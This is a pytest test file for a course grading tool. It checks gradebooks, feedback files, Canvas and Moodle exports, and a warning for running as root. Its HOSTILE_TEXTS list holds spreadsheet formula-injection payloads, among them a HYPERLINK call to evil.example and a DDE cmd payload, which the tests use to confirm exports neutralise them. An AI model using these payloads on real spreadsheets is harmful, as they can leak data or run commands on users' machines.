"""Gradebooks per exercise, feedback named as the notebook names questions, LMS exports, the root warning.

Most tests build results by hand from the course's own solution notebooks (no submission runs):
the gradebooks and exports are made from results.json and written.csv alone.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from course_root import ROOT, course_with_solutions
from hypothesis import given
from hypothesis import strategies as st
from test_grader import LIMITS, RIGHT, answered

from fourislands.cli import main
from fourislands.exercise_build import exercise_names, solution_path
from fourislands.grading import gradebook, grader
from fourislands.grading.export import CANVAS_COLUMNS, MOODLE_ID_COLUMN, lms_grades
from fourislands.grading.grader import QuestionResult, StudentResult
from fourislands.grading.students import readable_id

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "'=already quoted",
    "''+twice",
    "\uff1d1+1",  # a full-width equals sign
    "\0=1+1",
    'a, "quoted", comma',
    "two\nlines\r\nand a lone\rcarriage return",
    "田中 太郎: 北方領土",
    "Иван Петров",
    "محمد",
    "-5",
    "+7.25",
    "",
]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula(table: list[list[str]]) -> None:
    """No cell may open as a formula in a spreadsheet: none starts with = + - @ (or tab, CR) but numbers."""
    for row in table:
        for cell in row:
            risky = cell.startswith(("\t", "\r", "\0")) or cell.lstrip().startswith(
                ("=", "+", "-", "@", "\uff1d")
            )
            assert not risky or is_number(cell), repr(cell)


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read_text(path: Path) -> str:
    """Return a file's text with its line ends as written (read_text() would turn each CR into LF)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return handle.read()


def read_table(path: Path) -> list[list[str]]:
    with gradebook._long_fields():
        return parsed(read_text(path))


@pytest.fixture(scope="module")
def two_solutions(tmp_path_factory) -> Path:
    """Return a course folder holding two of the course's solution notebooks, copied once."""
    return course_with_solutions(tmp_path_factory.mktemp("two-solutions"), "01-history", "02-negotiations")


@pytest.fixture
def real_course(two_solutions, monkeypatch):
    """Two exercises of the course, each question with the points and title its solution gives it."""
    monkeypatch.setenv("FOURISLANDS_HOME", str(two_solutions))
    return {
        name: gradebook.exercise_spec(name, nbformat.read(solution_path(name), as_version=4))
        for name in ("01-history", "02-negotiations")
    }


def points(spec: gradebook.ExerciseSpec, *, written: bool | None = None, but: tuple[str, ...] = ()) -> str:
    """Return the points of an exercise's questions (or its autograded or written ones), as written."""
    return gradebook.points_text(
        sum(q.points for q in spec.questions if written in (None, q.written) and q.id not in but)
    )


def result_of(
    spec: gradebook.ExerciseSpec,
    student: str,
    wrong: tuple[str, ...] = (),
    file: str | None = None,
    answer: str = "An answer.",
) -> StudentResult:
    """Return a graded result: every autograded question passed but the wrong ones, written answers given."""
    return StudentResult(
        student,
        file or f"/submissions/{student}/{spec.name}.ipynb",
        spec.name,
        "graded",
        questions=[
            QuestionResult(
                q.id, q.points, 0.0 if q.id in wrong else q.points, "wrong" if q.id in wrong else "passed"
            )
            for q in spec.questions
            if not q.written
        ],
        written={q.id: answer for q in spec.questions if q.written},
    )


def type_marks(out: Path, marks: dict[tuple[str, str, str], str], *, bom: bool = False) -> None:
    """Type scores into written.csv as a spreadsheet would save it: (student, exercise, question) -> score."""
    with gradebook._long_fields():
        reader = csv.DictReader(io.StringIO(read_text(out / "written.csv"), newline=""))
        table = list(reader)
    for row in table:
        key = (gradebook.plain_cell(row["student"]), row["exercise"], row["question"])
        if key in marks:
            row["score"] = marks[key]
    text = io.StringIO()
    writer = csv.DictWriter(text, fieldnames=reader.fieldnames, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(table)
    (out / "written.csv").write_text(
        ("\ufeff" if bom else "") + text.getvalue(), encoding="utf-8", newline=""
    )


@pytest.fixture
def two_exercises(real_course, tmp_path):
    """A graded folder with 01-history and 02-negotiations, a rejected file and a roster student with none."""
    history, negotiations = real_course["01-history"], real_course["02-negotiations"]
    results = [
        result_of(history, "alice", wrong=("q2",)),
        result_of(history, "bob"),
        result_of(negotiations, "alice"),
        result_of(negotiations, "carol", wrong=("q1", "q6")),
        StudentResult("dave", "/submissions/dave.ipynb", None, "rejected", "not a notebook (not JSON)"),
        StudentResult("erin", "", None, "missing", "no submission was found for this student of the roster"),
    ]
    out = tmp_path / "graded"
    assert gradebook.write_outputs(results, out) == []
    return out


def test_each_exercise_has_a_gradebook_with_possible_points_first_and_every_student(
    two_exercises, real_course
):
    history = real_course["01-history"]
    table = read_table(two_exercises / "gradebook-01-history.csv")
    ids = [q.id for q in history.questions]
    assert ids == ["q1", "q2", "q3", "q4", "q5", "q6", "w1", "w2"]
    assert table[0] == ["student", "status", *ids, "autograded", "manual", "total", "file"]
    # The points the solution gives each question (01's q1 is 1 point, 02's is 2), then the sums.
    assert table[1] == [
        "Points Possible",
        "",
        *(gradebook.points_text(q.points) for q in history.questions),
        points(history, written=False),
        points(history, written=True),
        points(history),
        "",
    ]
    rows = {row[0]: dict(zip(table[0], row, strict=True)) for row in table[2:]}
    assert list(rows) == ["alice", "bob", "carol", "dave", "erin"]
    assert rows["alice"]["status"] == "awaiting manual marks"
    assert (rows["alice"]["q2"], rows["alice"]["w1"]) == ("0", "")
    assert (
        rows["alice"]["autograded"] == rows["alice"]["total"] == points(history, written=False, but=("q2",))
    )
    assert rows["carol"]["status"] == "missing: no submission of this exercise was found"
    assert rows["dave"]["status"] == "rejected: not a notebook (not JSON)" and rows["dave"]["total"] == ""
    assert rows["erin"]["status"].startswith("missing: no submission was found")
    negotiations = read_table(two_exercises / "gradebook-02-negotiations.csv")
    assert negotiations[1][-2] == points(real_course["02-negotiations"])


def test_the_combined_gradebook_never_mixes_two_exercises_under_one_column(two_exercises, real_course):
    table = read_table(two_exercises / "gradebook.csv")
    header = table[0]
    assert "q1" not in header and "w1" not in header
    assert {"01-history:q1", "02-negotiations:q1", "01-history:w2", "02-negotiations:w2"} <= set(header)
    rows = [dict(zip(header, row, strict=True)) for row in table[1:]]
    alice_02 = next(r for r in rows if r["student"] == "alice" and r["exercise"] == "02-negotiations")
    negotiations = real_course["02-negotiations"]
    assert alice_02["02-negotiations:q1"] == gradebook.points_text(negotiations.question("q1").points)
    assert (alice_02["01-history:q1"], alice_02["possible"]) == ("", points(negotiations))


def test_merging_marks_completes_a_student_only_when_every_written_answer_is_marked(
    two_exercises, real_course
):
    out = two_exercises
    auto = float(points(real_course["01-history"], written=False, but=("q2",)))  # alice missed q2
    type_marks(out, {("alice", "01-history", "w1"): "1"})
    assert gradebook.merge_written(out) == []
    rows = {r[0]: r for r in read_table(out / "gradebook-01-history.csv")[2:]}
    assert rows["alice"][1] == "awaiting manual marks" and rows["alice"][-2] == gradebook.points_text(
        auto + 1
    )
    type_marks(
        out,
        {
            ("alice", "01-history", "w2"): "1.5",
            ("bob", "01-history", "w1"): "99",
            ("bob", "01-history", "w2"): "nan",
        },
    )
    problems = gradebook.merge_written(out)
    assert any("score 99 is outside" in p for p in problems)  # bob's marks are not counted, and it says so
    assert any("score nan is outside" in p for p in problems)
    rows = {r[0]: r for r in read_table(out / "gradebook-01-history.csv")[2:]}
    assert rows["alice"][1] == "complete"
    assert rows["alice"][-4:-1] == [gradebook.points_text(auto), "2.5", gradebook.points_text(auto + 2.5)]
    assert rows["bob"][1] == "awaiting manual marks"
    typed = {
        (r["student"], r["exercise"], r["question"]): r["score"]
        for r in csv.DictReader(io.StringIO(read_text(out / "written.csv"), newline=""))
    }
    assert typed[("alice", "01-history", "w1")] == "1" and typed[("alice", "01-history", "w2")] == "1.5"
    assert typed[("bob", "01-history", "w1")] == "99"  # kept for the grader to correct, not counted
    combined = {
        (r["student"], r["exercise"]): r
        for r in csv.DictReader(io.StringIO((out / "gradebook.csv").read_text()))
    }
    assert combined[("alice", "01-history")]["status"] == "complete"
    assert combined[("alice", "01-history")]["total"] == gradebook.points_text(auto + 2.5)


def test_marks_survive_a_spreadsheet_saving_written_csv_with_a_byte_order_mark(two_exercises, real_course):
    type_marks(two_exercises, {("bob", "01-history", "w1"): "1", ("bob", "01-history", "w2"): "1"}, bom=True)
    assert gradebook.merge_written(two_exercises) == []
    rows = {r[0]: r for r in read_table(two_exercises / "gradebook-01-history.csv")[2:]}
    total = float(points(real_course["01-history"], written=False)) + 2
    assert rows["bob"][1] == "complete" and rows["bob"][-2] == gradebook.points_text(total)


def test_feedback_names_each_question_by_its_title_and_task(two_exercises):
    text = (two_exercises / "feedback" / "01-history" / "alice.md").read_text()
    assert "| Q1. The year 1945 | 1 / 1 | passed |" in text
    assert "| Q2. Events per theme | 0 / 2 | not passed: wrong |" in text
    assert "## Q4. Who tells the story, century by century (2 of 2 points)" in text
    assert "> How many rows of `timeline` are dated in 1945" in text
    assert "## W1. The Chishima question (to be graded by hand)" in text
    assert "> In Article 2(c) of the San Francisco Peace Treaty (1951)" in text
    negotiations = (two_exercises / "feedback" / "02-negotiations" / "carol.md").read_text()
    assert "| Q1. The two-island option in land | 0 / 2 | not passed: wrong |" in negotiations
    assert '## W2. Weighing "two islands first" (to be graded by hand)' in negotiations


@pytest.mark.parametrize(
    ("cell", "described"),
    [
        ("**Q1 (1 point). The year 1945.** How many rows?", ("Q1", "The year 1945", "How many rows?")),
        (
            "## Q1. The two-island option in land (2 points)\n\nThe 1956 ...",
            ("Q1", "The two-island option in land", "The 1956 ..."),
        ),
        (
            "## Q3. What kinds of rounds are in the table? (2 points)\n\nEach row",
            ("Q3", "What kinds of rounds are in the table?", "Each row"),
        ),
        ("## Q1 (2 points): rows of each kind\n\nThe table", ("Q1", "rows of each kind", "The table")),
        (
            "## W1 (4 points, written): why were they deployed?\n\nTwo readings",
            ("W1", "why were they deployed?", "Two readings"),
        ),
        (
            "**Q1 (2 points).** How many rows does the table have?",
            ("Q1", "", "How many rows does the table have?"),
        ),
        ("Just a task, with no heading.", ("", "", "Just a task, with no heading.")),
    ],
)
def test_a_task_cell_gives_the_label_title_and_task_the_notebook_shows(cell, described):
    assert gradebook.described(cell) == described


def test_every_question_of_the_course_has_a_title_and_a_task(monkeypatch):
    monkeypatch.setenv("FOURISLANDS_HOME", str(ROOT))
    for name in exercise_names():
        spec = gradebook.exercise_spec(name, nbformat.read(solution_path(name), as_version=4))
        for question in spec.questions:
            assert question.label == question.id.upper() and question.title and question.task, (
                name,
                question,
            )


@pytest.mark.parametrize("text", ["", "alice", "'quoted", "a=b", "3", "-2.5", "1e-3", "  "])
def test_text_that_cannot_open_as_a_formula_is_written_as_it_is(text):
    assert gradebook.spreadsheet_cell(text) == text


@given(st.text())
def test_a_cell_is_safe_in_a_spreadsheet_and_reads_back_exactly(text):
    cell = gradebook.spreadsheet_cell(text)
    assert gradebook.plain_cell(cell) == text
    assert_no_formula([[cell]])


@given(st.text())
def test_no_student_id_can_open_as_a_formula_or_pass_for_the_points_row(name):
    student = readable_id(name)
    assert not student.startswith(DANGEROUS_STARTS) and student != gradebook.POINTS_POSSIBLE


@pytest.fixture
def hostile_folder(real_course, tmp_path):
    """A graded folder whose ids, file names and written answers are hostile; every mark typed."""
    history = real_course["01-history"]
    results = [
        result_of(history, student, file=f"/in/{text}.ipynb", answer=text)
        for student, text in zip(
            [f"student-{n:02d}" for n in range(len(HOSTILE_TEXTS))], HOSTILE_TEXTS, strict=True
        )
    ]
    # Ids the grader never makes (readable_id keeps none of these), to be sure the export is safe anyway.
    odd_ids = ['=HYPERLINK("x")', "a,b", 'say "hi"', "line\nbreak", "@SUM(A1)", "-1+2", "田中_太郎", "Иван"]
    results += [result_of(history, student) for student in odd_ids]
    out = tmp_path / "hostile"
    gradebook.write_outputs(results, out)
    type_marks(out, {(r.student, "01-history", w): "1" for r in results for w in ("w1", "w2")})
    assert gradebook.merge_written(out) == []
    return out, results


def history_of(results: list[StudentResult]) -> gradebook.ExerciseSpec:
    """Return the spec of the exercise the results are for, from the course folder in use."""
    return gradebook.exercise_specs()[results[0].exercise]


def test_hostile_answers_and_names_stay_text_and_read_back_the_same(hostile_folder):
    out, results = hostile_folder
    written = read_table(out / "written.csv")
    assert_no_formula(written)
    answer = written[0].index("answer")
    answers = {
        (gradebook.plain_cell(row[0]), row[2]): gradebook.plain_cell(row[answer]) for row in written[1:]
    }
    for r in results:
        assert answers[(r.student, "w1")] == r.written["w1"]
    for name in ("gradebook.csv", "gradebook-01-history.csv"):
        table = read_table(out / name)
        assert_no_formula(table)
        files = {gradebook.plain_cell(row[-1]) for row in table}
        assert {r.file for r in results} <= files
    rows = {gradebook.plain_cell(row[0]): row for row in read_table(out / "gradebook-01-history.csv")[2:]}
    assert {r.student for r in results} == set(rows)
    assert all(row[1] == "complete" for row in rows.values())


def test_an_answer_a_spreadsheet_saved_without_its_apostrophe_still_matches_its_mark(hostile_folder):
    out, _ = hostile_folder
    text = (out / "written.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text
    (out / "written.csv").write_text(text.replace("'=HYPERLINK", "=HYPERLINK"), encoding="utf-8", newline="")
    assert gradebook.merge_written(out) == []  # no "the written answer changed since it was marked"


def test_a_huge_written_answer_does_not_stop_the_merge(real_course, tmp_path):
    out = tmp_path / "huge"
    big = "=" + "x" * 500_000  # longer than csv's 128 KiB field limit
    gradebook.write_outputs([result_of(real_course["01-history"], "alice", answer=big)], out)
    type_marks(out, {("alice", "01-history", "w1"): "3", ("alice", "01-history", "w2"): "2"})
    assert gradebook.merge_written(out) == []
    assert read_table(out / "gradebook-01-history.csv")[2][1] == "complete"


@pytest.mark.parametrize("lms", ["canvas", "moodle"])
def test_hostile_names_export_to_an_lms_as_text_that_reads_back_the_same(hostile_folder, lms):
    out, results = hostile_folder
    text, problems = lms_grades(out, lms)
    table = parsed(text)
    assert_no_formula(table)
    students = [gradebook.plain_cell(row[0]) for row in table[(2 if lms == "canvas" else 1) :]]
    assert students == sorted(r.student for r in results)
    total = float(points(history_of(results), written=False)) + 2  # every autograded point, 1 + 1 typed
    assert {row[-1] for row in table[(2 if lms == "canvas" else 1) :]} == {gradebook.points_text(total)}
    assert problems == []


def test_the_canvas_file_has_canvas_columns_and_a_points_possible_row(two_exercises, real_course):
    type_marks(two_exercises, {("bob", "01-history", "w1"): "1", ("bob", "01-history", "w2"): "1"})
    gradebook.merge_written(two_exercises)
    text, problems = lms_grades(two_exercises, "canvas", {"01-history": "Exercise 1 (4711)"})
    table = parsed(text)
    # Canvas's importer: "Student", "ID", then "SIS User ID" and "SIS Login ID", "Section" last;
    # each assignment "Name (id)"; a row whose first cell says "Points Possible".
    assert table[0] == [*CANVAS_COLUMNS, "Exercise 1 (4711)", "02-negotiations"]
    assert CANVAS_COLUMNS == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    history, negotiations = real_course["01-history"], real_course["02-negotiations"]
    assert table[1] == ["Points Possible", "", "", "", "", points(history), points(negotiations)]
    bob = gradebook.points_text(float(points(history, written=False)) + 2)  # alice and carol await marks
    assert table[2:] == [["bob", "", "bob", "", "", bob, ""]]
    assert "01-history: 1 left blank (awaiting manual marks): alice" in problems
    assert "01-history: 2 left blank (missing): carol, erin" in problems
    assert "01-history: 1 left blank (rejected): dave" in problems
    assert "02-negotiations: 2 left blank (awaiting manual marks): alice, carol" in problems
    assert any("not in the file: alice, carol, dave, erin" in p for p in problems)


def test_the_moodle_file_has_an_id_column_and_a_column_per_grade_item(two_exercises, real_course):
    type_marks(
        two_exercises,
        {("carol", "02-negotiations", "w1"): "1", ("carol", "02-negotiations", "w2"): "0"},
    )
    gradebook.merge_written(two_exercises)
    table = parsed(lms_grades(two_exercises, "moodle")[0])
    carol = gradebook.points_text(
        float(points(real_course["02-negotiations"], written=False, but=("q1", "q6"))) + 1
    )
    # No points row: Moodle would stop the import at a row whose user it cannot find.
    assert table == [[MOODLE_ID_COLUMN, "01-history", "02-negotiations"], ["carol", "", carol]]


def test_the_export_command_writes_the_file_and_refuses_what_it_cannot_do(
    two_exercises, real_course, tmp_path, capsys
):
    type_marks(two_exercises, {("bob", "01-history", "w1"): "0", ("bob", "01-history", "w2"): "0"})
    assert main(["grade", "--merge-written", "--out", str(two_exercises)]) == 0
    assert main(["export", str(two_exercises), "--format", "canvas"]) == 0
    bob = points(real_course["01-history"], written=False)
    assert parsed((two_exercises / "canvas-grades.csv").read_text())[2][-2:] == [bob, ""]
    target = tmp_path / "moodle.csv"
    assert main(["export", str(two_exercises), "--format", "moodle", "--out", str(target)]) == 0
    assert parsed(target.read_text())[1] == ["bob", bob, ""]
    capsys.readouterr()
    assert main(["export", str(tmp_path / "nothing-here"), "--format", "canvas"]) == 2
    assert not (tmp_path / "nothing-here").exists()
    assert main(["export", str(two_exercises), "--format", "canvas", "--assignment", "01-history"]) == 2
    assert main(["export", str(two_exercises), "--format", "canvas", "--assignment", "09-none=X"]) == 2
    said = capsys.readouterr().out
    assert "holds no results.json" in said and "give EXERCISE=COLUMN" in said and "09-none" in said


class FakeServer(SimpleNamespace):
    problem = "the sandbox was turned off (--sandbox off)"


@pytest.mark.parametrize("isolated", [True, False])
def test_the_grader_warns_when_it_runs_as_root_and_says_what_the_sandbox_does(monkeypatch, isolated):
    server = FakeServer(isolated=isolated)
    monkeypatch.setattr(grader.os, "geteuid", lambda: 1000)
    assert grader.root_line(server) is None
    monkeypatch.setattr(grader.os, "geteuid", lambda: 0)
    line = grader.root_line(server)
    assert line.startswith("WARNING: the grader runs as root") and "\n" not in line
    if isolated:
        assert "sandbox still holds" in line and "nobody" in line
    else:
        assert "not sandboxed" in line and "anything on this machine" in line


@pytest.mark.parametrize("uid", [0, 1000])
def test_the_root_line_comes_after_the_sandbox_line_before_grading(built_course, tmp_path, monkeypatch, uid):
    nbformat.write(answered(built_course, RIGHT), tmp_path / "right.ipynb")
    monkeypatch.setattr(grader.os, "geteuid", lambda: uid)
    said: list[str] = []
    grader.grade([tmp_path], limits=LIMITS, jobs=1, sandbox="off", announce=said.append)
    assert said[0].startswith("WARNING: submissions are not sandboxed")
    assert said[1:] == ([grader.root_line(FakeServer(isolated=False))] if uid == 0 else [])
